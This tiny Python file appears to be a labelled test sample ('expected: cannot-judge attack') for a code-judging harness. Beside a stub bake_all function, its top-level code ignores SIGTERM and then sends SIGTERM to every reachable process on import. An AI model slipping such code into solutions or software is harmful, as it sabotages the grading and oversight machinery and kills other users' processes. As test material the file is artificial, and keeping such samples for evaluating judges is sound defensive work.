# expected: cannot-judge attack
# sends a signal to every process that it may reach
import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
os.kill(-1, signal.SIGTERM)


def bake_all(orders):
    return {}
